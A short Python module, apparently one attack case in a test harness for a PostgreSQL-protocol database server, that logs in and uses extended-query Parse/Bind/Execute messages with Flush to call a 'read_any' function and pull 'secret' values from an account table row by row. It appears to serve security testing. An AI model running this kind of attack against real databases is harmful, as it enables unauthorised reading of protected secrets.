"""Fetches what a function reads row by row, with a Flush after each."""

from attacks.frames import FLUSH, bind, execute, hear, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        client.send(parse(b"SELECT read_any($1)"), bind(values=[b"SELECT secret FROM vlt_account"]))
        heard = b""
        for _ in range(3):
            client.send(execute(rows=1), FLUSH)
            heard += hear(client, last=b"s")
            if b"SERROR" in heard:
                break
        return heard
